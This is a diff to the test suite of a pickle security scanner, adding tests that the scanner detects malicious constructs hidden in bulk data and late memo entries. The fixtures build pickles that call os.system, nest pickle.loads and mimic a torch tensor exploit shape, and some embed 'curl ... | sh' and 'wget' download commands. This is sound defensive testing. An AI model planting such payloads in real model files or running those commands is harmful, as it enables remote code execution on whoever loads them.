@@ -10,6 +10,8 @@ import { AnalysisContext, FileRun } from '../src/engine/context.js'
 import { DEFAULT_LIMITS } from '../src/engine/limits.js'
 import { dispatch } from '../src/engine/dispatch.js'
 import { analyzePickle } from '../src/analyzers/pickle/index.js'
+import { PickleMachine, type Shared } from '../src/analyzers/pickle/machine.js'
+import { BufferSource } from '../src/engine/source.js'
 
 describe('opcode table', () => {
   test('has the 68 opcodes of protocols 0-5', () => {
@@ -39,9 +41,9 @@ describe('O7: FRAME straddle', () => {
     expect(p.subarray(globalAt, globalAt + 3).toString('latin1')).toBe('cos')
     const o = await scanBytes(p)
     expect(o.imports).toEqual(['os.system'])
-    expect(rules(o.findings)).toEqual(['PKL-001:critical', 'PKL-010:critical', 'PKL-014:medium', 'PKL-033:medium'])
+    expect(rules(o.findings)).toEqual(['PKL-001:critical', 'PKL-010:critical', 'PKL-014:medium', 'PKL-050:medium'])
     expect(find(o.findings, 'PKL-001')[0]!.offset).toBe(globalAt)
-    expect(find(o.findings, 'PKL-033')[0]!.offset).toBe(11)
+    expect(find(o.findings, 'PKL-050')[0]!.offset).toBe(11)
   })
 
   test('the sequential reading alone sees only bytes', async () => {
@@ -55,7 +57,7 @@ describe('O7: FRAME straddle', () => {
   test('a FRAME inside an unfinished frame is reported', async () => {
     const q = new PB().proto(4).frame(12).op('NONE').frame(2).op('POP', 'NONE').stop().bytes()
     const o = await runPickle(q)
-    expect(rules(o.findings)).toEqual(['PKL-033:medium'])
+    expect(rules(o.findings)).toEqual(['PKL-050:medium'])
   })
 
   test('real framed pickles (protocol 4/5) raise nothing', async () => {
@@ -90,7 +92,9 @@ describe('protocol 0/1 recognition (O8)', () => {
       '123\n',
       '(not a pickle)\n',
       'I am text\n',
-      'cos\nsystem\n'
+      'cos\nsystem\n',
+      '((((((((((((((((((((',
+      'NNNNNNNNNNNNNNNNNNNNNNNN'
     ])
       expect([text, looksLikePickle(Buffer.from(text), true)]).toEqual([text, false])
   })
@@ -204,7 +208,7 @@ describe('limits and bounded work', () => {
   })
 
   test('opcodes and strings spanning 1 MiB window edges are read exactly', async () => {
-    for (const pad of [0, 1, 3, 7]) {
+    for (const pad of [0, 3]) {
       const p = new PB().proto(2)
       for (let i = 0; i < pad; i++) p.op('NONE', 'POP')
       for (let i = 0; i < 110000; i++) p.bu(`key-${i}`).op('POP')
@@ -215,5 +219,137 @@ describe('limits and bounded work', () => {
       expect(o.result.opcodes).toBe(1 + 2 * pad + 220000 + 5)
       expect(o.result).toMatchObject({ complete: true, end: bytes.length })
     }
+  })
+
+  describe('bulk data fast path', () => {
+    /** A list filled by `batches` APPENDS of `per` (int, float, 'abc') tuples; `inject` adds bytes to batch k. */
+    const bulk = (batches: number, per: number, opts: { memo?: boolean; inject?: [number, Buffer] } = {}) => {
+      const p = new PB().proto(4).op('EMPTY_LIST')
+      let count = 2
+      for (let k = 0; k < batches; k++) {
+        p.op('MARK')
+        count++
+        for (let i = 0; i < per; i++) {
+          p.int4(k * per + i)
+            .raw(0x47, Buffer.alloc(8))
+            .sbu('abc')
+            .op('TUPLE3')
+          count += 4
+          if (opts.memo) {
+            p.op('MEMOIZE')
+            count++
+          }
+        }
+        if (opts.inject && opts.inject[0] === k) p.raw(opts.inject[1])
+        p.op('APPENDS')
+        count++
+      }
+      return { p, count }
+    }
+
+    test('batches of plain tuples are counted exactly and what follows is analysed', async () => {
+      const { p, count } = bulk(300, 200)
+      const bytes = p.callGlobal('os', 'system', 'id').op('TUPLE2', 'STOP').bytes()
+      const o = await runPickle(bytes)
+      expect(o.result.opcodes).toBe(count + 6)
+      expect(rules(o.findings)).toEqual(['PKL-001:critical', 'PKL-010:critical'])
+      expect(o.result).toMatchObject({ complete: true, end: bytes.length })
+    })
+
+    test('an import inside a late batch is not skimmed over', async () => {
+      const inject = new PB().callGlobal('os', 'system', 'id').bytes()
+      const { p } = bulk(300, 200, { inject: [250, inject] })
+      const o = await runPickle(p.stop().bytes())
+      expect(o.imports).toEqual(['os.system'])
+      expect(rules(o.findings)).toEqual(['PKL-001:critical', 'PKL-010:critical'])
+    })
+
+    test('a suspicious string inside a late batch is still checked', async () => {
+      const inject = new PB().sbu('curl http://203.0.113.9/x | sh').bytes()
+      const { p } = bulk(300, 200, { inject: [280, inject] })
+      const o = await runPickle(p.stop().bytes())
+      expect(rules(o.findings)).toEqual(['PKL-060:low'])
+    })
+
+    test('memoised tuples past the keep budget: memo keys stay exact, strings stored later still resolve', async () => {
+      const { p, count } = bulk(80, 1000, { memo: true })
+      // memo key 0 is the first tuple (kept exactly), 79999 the last (kept opaquely)
+      p.sbu('posix').op('MEMOIZE', 'POP').binget(0).op('POP').longBinget(79999).op('POP')
+      p.longBinget(80000).sbu('system').op('STACK_GLOBAL', 'TUPLE2', 'STOP')
+      const o = await runPickle(p.bytes())
+      expect(o.imports).toEqual(['posix.system'])
+      expect(rules(o.findings)).toEqual(['PKL-001:critical'])
+      expect(o.result.opcodes).toBe(count + 12)
+    })
+
+    test('skimming changes nothing but speed (same findings and result with and without it)', async () => {
+      const inject = new PB().sbu('wget http://203.0.113.9/x').bytes()
+      const { p } = bulk(120, 1000, { memo: true, inject: [100, inject] })
+      const bytes = p.callGlobal('os', 'system', 'id').op('TUPLE2', 'STOP').bytes()
+      const run = async (skim: boolean) => {
+        const fr = new FileRun('t', DEFAULT_LIMITS, dispatch)
+        const ctx = new AnalysisContext(fr, undefined, 0, 't.pkl')
+        const shared: Shared = {
+          result: { imports: [], persistentIds: [], rebuildCalls: [], end: 0, pickles: 0, complete: false, arrays: [] },
+          once: new Set(),
+          forks: [],
+          forkCount: 0,
+          decoded: 0,
+          stringFindings: 0,
+          ext: new Map(),
+          arrays: 0,
+          repeats: new Map(),
+          importCounts: new Map()
+        }
+        const m = new PickleMachine(new BufferSource(bytes), ctx, 'generic', shared)
+        ;(m as any).skimOk = skim
+        await m.run(0, false)
+        return { findings: fr.findings, result: shared.result, ops: m.executed, wins: (m as any).skimWins as number }
+      }
+      const fast = await run(true)
+      const slow = await run(false)
+      expect(fast.wins).toBeGreaterThan(30)
+      expect(slow.wins).toBe(0)
+      expect(fast.findings).toEqual(slow.findings)
+      expect(fast.result).toEqual(slow.result)
+      expect(fast.ops).toBe(slow.ops)
+      expect(rules(fast.findings)).toEqual(['PKL-001:critical', 'PKL-010:critical', 'PKL-060:low'])
+    })
+  })
+
+  describe('compact memo past the keep budget', () => {
+    test('a pickle of many memoised records stays within maxMemo', async () => {
+      const p = new PB().proto(4).op('EMPTY_LIST', 'MEMOIZE')
+      // {'id': i, 'name': 'r<i>'} records as pickle.dumps writes them: 240000 memo entries, maxMemo 70000
+      for (let i = 0; i < 120000; i++)
+        p.op('EMPTY_DICT', 'MEMOIZE', 'MARK')
+          .sbu('id')
+          .int4(i)
+          .sbu('name')
+          .sbu(`r${i}`)
+          .op('MEMOIZE', 'SETITEMS', 'APPEND')
+      const bytes = p.stop().bytes()
+      const o = await runPickle(bytes, {}, { maxMemo: 70000 })
+      expect(o.findings).toEqual([])
+      expect(o.result).toMatchObject({ complete: true, end: bytes.length })
+    })
+
+    test('late memo entries keep what matters: strings resolve, tensors stay tensors, bytes stay payloads', async () => {
+      const p = new PB().proto(2).op('EMPTY_LIST')
+      for (let i = 0; i < 70000; i++) p.op('EMPTY_DICT').longBinput(i).op('APPEND')
+      const inner = new PB().proto(2).callGlobal('os', 'system', 'id').stop().bytes()
+      p.bu('posix').longBinput(70000).bu('system').longBinput(70001).bb(inner).longBinput(70002)
+      p.op('POP', 'POP', 'POP')
+      // a tensor memoised late, fetched again and written into (CVE-2026-24747 shape)
+      p.global('torch._utils', '_rebuild_tensor_v2').op('EMPTY_TUPLE', 'REDUCE').longBinput(70003).op('POP')
+      p.longBinget(70003).op('MARK').int1(0).int1(1).op('SETITEMS', 'POP')
+      p.longBinget(70000).longBinget(70001).op('STACK_GLOBAL', 'POP')
+      p.global('pickle', 'loads').longBinget(70002).op('TUPLE1', 'REDUCE', 'POP', 'STOP')
+      const o = await runPickle(p.bytes(), { profile: 'torch-weights' })
+      expect(o.imports).toEqual(['torch._utils._rebuild_tensor_v2', 'posix.system', 'pickle.loads', 'os.system'])
+      expect(rules(o.findings)).toEqual(
+        expect.arrayContaining(['PKL-001:critical', 'PKL-011:critical', 'PKL-013:high', 'PT-014:high'])
+      )
+    })
   })
 })
